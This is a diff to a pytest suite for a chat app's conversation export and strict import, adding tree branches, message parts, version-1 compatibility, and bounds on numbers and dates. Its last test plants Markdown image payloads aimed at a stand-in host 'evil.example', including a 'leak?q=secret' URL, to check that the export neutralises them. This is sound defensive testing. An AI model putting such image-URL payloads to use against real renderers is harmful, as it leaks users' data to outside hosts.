@@ -1,4 +1,5 @@
-"""Export to Markdown and JSON, and a strict import that only parses."""
+"""Export to Markdown and JSON (the whole tree, with parts), and a strict import that only parses and bounds
+every number and date; version-1 files still import."""
 
 from __future__ import annotations
 
@@ -7,6 +8,7 @@ import builtins
 import copy
 import json
 import sqlite3
+from datetime import timedelta, timezone
 from pathlib import Path
 
 import pytest
@@ -14,7 +16,17 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from qwenchat import transfer
-from qwenchat.conversation import COMPLETE, FAILED, STOPPED, STREAMING, WITHDRAWN, Conversation, Message, Usage
+from qwenchat.conversation import (
+    COMPLETE,
+    FAILED,
+    STOPPED,
+    STREAMING,
+    WITHDRAWN,
+    Conversation,
+    Message,
+    Part,
+    Usage,
+)
 from qwenchat.sanitize import clean_user_text
 from qwenchat.store import MemoryStore
 from qwenchat.transfer import InvalidImport, from_json, to_json, to_markdown
@@ -36,10 +48,14 @@ def sample() -> Conversation:
 
 
 def without_ids(c: Conversation) -> dict:
+    """The conversation as data, ids left out (an import makes fresh ones): parents as positions instead."""
     data = c.to_dict()
-    del data["id"]
-    for m in data["messages"]:
-        del m["id"]
+    position = {m["id"]: (branch, i) for branch in ("messages", "hidden") for i, m in enumerate(data[branch])}
+    del data["id"], data["version"]
+    for branch in ("messages", "hidden"):
+        for m in data[branch]:
+            m["parent_id"] = position.get(m["parent_id"])
+            del m["id"]
     return data
 
 
@@ -75,7 +91,7 @@ def test_markdown_of_an_untitled_empty_conversation():
 def test_json_envelope_has_exactly_the_documented_keys():
     data = json.loads(to_json(sample()))
     assert list(data) == list(transfer.ENVELOPE_KEYS)
-    assert data["format"] == "qwenchat.conversation" and data["version"] == 1
+    assert data["format"] == "qwenchat.conversation" and data["version"] == 2
     assert data["exported_at"].endswith("Z")
     assert list(data["conversation"]) == list(transfer.CONVERSATION_KEYS)
     for m in data["conversation"]["messages"]:
@@ -166,7 +182,7 @@ BAD_FILES = {
     "a string": '"qwenchat.conversation"',
     "wrong format": edited(setitem(("format",), "chatgpt.export")),
     "no format": edited(delitem(("format",))),
-    "version 2": edited(setitem(("version",), 2)),
+    "version 3": edited(setitem(("version",), 3)),
     "version as string": edited(setitem(("version",), "1")),
     "version true": edited(setitem(("version",), True)),
     "no exported_at": edited(delitem(("exported_at",))),
@@ -212,16 +228,18 @@ def test_the_messages_say_what_is_wrong():
         return str(refused.value)
 
     assert reason(BAD_FILES["not json"]) == "导入失败：文件不是有效的 JSON / Import failed: not valid JSON"
-    assert "版本" in reason(BAD_FILES["version 2"]) and "unsupported version 2" in reason(BAD_FILES["version 2"])
+    assert "版本" in reason(BAD_FILES["version 3"]) and "unsupported version 3" in reason(BAD_FILES["version 3"])
     assert "'system'" in reason(BAD_FILES["unknown role"]) and "第 1 条消息" in reason(BAD_FILES["unknown role"])
-    assert "5 MB" in reason(BAD_FILES["too large"])
+    assert "2 MB" in reason(BAD_FILES["too large"])
     assert "5000" in reason(BAD_FILES["too many messages"])
     assert "api_key" in reason(BAD_FILES["unknown message field"])
 
 
 def test_exactly_the_limits_are_accepted():
     data = valid()
-    data["conversation"]["messages"] = [data["conversation"]["messages"][0]] * 5000
+    first = data["conversation"]["messages"][0]
+    data["conversation"]["messages"] = [{**first, "parent": i - 1 if i else None} for i in range(5000)]
+    data["conversation"]["leaf"] = 4999
     assert len(from_json(json.dumps(data)).messages) == 5000
 
 
@@ -250,8 +268,8 @@ texts = st.text(max_size=100).map(clean_user_text)  # an import cleans text as t
 messages = st.builds(
     Message, role=st.sampled_from(["user", "assistant"]), content=texts,
     status=st.sampled_from([COMPLETE, STREAMING, STOPPED, FAILED]), reasoning=texts, error=texts, model=texts,
-    usage=st.none() | st.builds(Usage, *[st.integers(0, 2**40)] * 5, st.booleans()),
-    created_at=st.floats(0, 4e9),
+    usage=st.none() | st.builds(Usage, *[st.integers(0, 10**12)] * 5, st.booleans()),
+    created_at=st.floats(transfer.EARLIEST, transfer.LATEST, exclude_max=True),
 )
 
 
@@ -307,3 +325,126 @@ def test_an_import_with_a_lone_surrogate_can_be_saved(tmp_path):
     store = Store(tmp_path / "c.db")
     store.save_conversation("owner", imported)
     assert store.load("owner", imported.id).messages[0].content == "bad \ufffd text"
+
+
+# ---- the tree, parts, and older files ----
+
+def branched() -> Conversation:
+    c = Conversation(model="qwen-plus", system_prompt="", title="分支")
+    question = c.add_user("写一首诗")
+    question.parts = [Part("image", data={"url": "https://example.com/a.png", "size": [640, 480]})]
+    old = c.start_reply("qwen-plus")
+    old.content, old.status = "旧的诗", COMPLETE
+    c.regenerate_point(old.id)
+    new = c.start_reply("qwen-max")
+    new.content, new.status = "新的诗", COMPLETE
+    new.parts = [Part("citation", text="出处", data={"doc": "kb-1", "score": 0.75})]
+    c.branch_from(question.id)
+    c.add_user("写一首词")
+    c.start_reply("qwen-plus").content = "词"
+    return c
+
+
+def test_the_tree_and_its_parts_survive_export_and_import():
+    c = branched()
+    back = from_json(to_json(c))
+    assert without_ids(back) == without_ids(c)
+    assert [m.content for m in back.messages] == ["写一首词", "词"]
+    assert [m.content for m in back.hidden] == ["写一首诗", "旧的诗", "新的诗"]
+    poem = back.hidden[0]
+    assert [m.content for m in back.siblings(back.messages[0].id)] == ["写一首诗", "写一首词"]
+    back.switch_to(poem.id)
+    assert [m.content for m in back.messages] == ["写一首诗", "新的诗"]
+    assert back.messages[0].parts == [Part("image", data={"url": "https://example.com/a.png", "size": [640, 480]})]
+    assert back.messages[1].parts[0].text == "出处"
+    parents = [m["parent"] for m in json.loads(to_json(c))["conversation"]["messages"]]
+    assert all(p is None or p < i for i, p in enumerate(parents))
+
+
+def test_a_version_1_export_still_imports_as_one_chain():
+    old = {"format": "qwenchat.conversation", "version": 1, "exported_at": "2025-01-31T08:00:00Z",
+           "conversation": {"title": "旧文件", "model": "qwen-plus", "system_prompt": "", "closed": False,
+                            "created_at": 1700000000, "messages": [
+                                {"role": role, "content": text, "status": "complete", "reasoning": "", "error": "",
+                                 "model": "", "usage": None, "created_at": 1700000000 + n}
+                                for n, (role, text) in enumerate([("user", "q1"), ("assistant", "a1"),
+                                                                  ("user", "q2")])]}}
+    c = from_json(json.dumps(old))
+    assert [m.content for m in c.messages] == ["q1", "a1", "q2"] and c.hidden == []
+    assert [m.parent_id for m in c.messages] == ["", c.messages[0].id, c.messages[1].id]
+    old["conversation"]["messages"][0]["parts"] = []  # a version 1 file has no parts
+    with pytest.raises(InvalidImport):
+        from_json(json.dumps(old))
+
+
+def test_markdown_shows_only_the_visible_branch():
+    md = to_markdown(branched())
+    assert "写一首词" in md and "写一首诗" not in md and "旧的诗" not in md
+
+
+TREE_FILES = {
+    "parent after itself": edited(setitem((*M0, "parent"), 0)),
+    "parent ahead": edited(setitem(("conversation", "messages", 1, "parent"), 3)),
+    "parent a string": edited(setitem(("conversation", "messages", 1, "parent"), "0")),
+    "leaf out of range": edited(setitem(("conversation", "leaf"), 6)),
+    "leaf a bool": edited(setitem(("conversation", "leaf"), True)),
+    "parts not a list": edited(setitem((*M0, "parts"), {})),
+    "part of unknown type": edited(setitem((*M0, "parts"), [{"type": "script", "text": "", "data": {}}])),
+    "part with an extra field": edited(setitem((*M0, "parts"), [{"type": "file", "text": "", "data": {}, "x": 1}])),
+    "part with a huge number": edited(setitem((*M0, "parts"), [{"type": "file", "text": "", "data": {"n": 10**16}}])),
+    "too many parts": edited(setitem((*M0, "parts"), [{"type": "file", "text": "", "data": {}}] * 51)),
+}
+
+
+@pytest.mark.parametrize("case", TREE_FILES)
+def test_a_broken_tree_is_refused(case):
+    with pytest.raises(InvalidImport):
+        from_json(TREE_FILES[case])
+
+
+# ---- every number and date bounded ----
+
+U1 = ("conversation", "messages", 1, "usage")
+BOUNDED = {
+    "usage past 10**12": (setitem((*U1, "total_tokens"), 10**12 + 1), "1,000,000,000,000"),
+    "usage near 2**63": (setitem((*U1, "prompt_tokens"), 2**63 - 1), "1,000,000,000,000"),
+    "created_at in 1970": (setitem(("conversation", "created_at"), 0), "2000"),
+    "created_at in year 9999": (setitem(("conversation", "created_at"), 253402300799), "2099"),
+    "message created_at in 2100": (setitem((*M0, "created_at"), 4102444800), "2099"),
+    "exported_at in year 9999": (setitem(("exported_at",), "9999-12-31T23:59:59Z"), "2099"),
+    "exported_at not a date": (setitem(("exported_at",), "yesterday"), "exported_at"),
+    "model name 10,000 long": (setitem((*M0, "model"), "m" * 10_000), "200"),
+}
+
+
+@pytest.mark.parametrize("case", BOUNDED)
+def test_numbers_and_dates_out_of_bounds_are_refused_with_the_limit(case):
+    change, limit = BOUNDED[case]
+    with pytest.raises(InvalidImport) as refused:
+        from_json(edited(change))
+    assert limit in str(refused.value) and " / Import failed: " in str(refused.value)
+
+
+def test_the_largest_allowed_numbers_and_dates_import_and_export():
+    data = valid()
+    data["conversation"]["created_at"] = transfer.LATEST - 1
+    data["conversation"]["messages"][1]["usage"] = {**data["conversation"]["messages"][1]["usage"],
+                                                    "total_tokens": 10**12, "prompt_tokens": 10**12}
+    c = from_json(json.dumps(data))
+    assert "2099-12-31" in to_markdown(c) and c.total_usage().total_tokens >= 10**12
+
+
+def test_markdown_of_a_time_no_calendar_shows_does_not_raise():
+    c = Conversation(created_at=253402300799, system_prompt="")  # year 9999: year 10000 east of UTC
+    c.add_user("hi")
+    assert "?" in to_markdown(c, timezone(timedelta(hours=8)))
+    assert to_markdown(Conversation(created_at=float("nan")))
+
+
+def test_markdown_export_shows_images_of_every_role_as_links():
+    c = Conversation(system_prompt="![sys](https://evil.example/s.png)", title="![t](https://evil.example/t.png)")
+    c.add_user("看 ![x](https://evil.example/leak?q=secret)")
+    reply = c.start_reply("![m](https://evil.example/m.png)")
+    reply.content, reply.status, reply.reasoning = "![y](https://evil.example/y.png)", COMPLETE, "![r](http://e/r)"
+    md = to_markdown(c)
+    assert "![" not in md and md.count("[🖼️ ") == 6
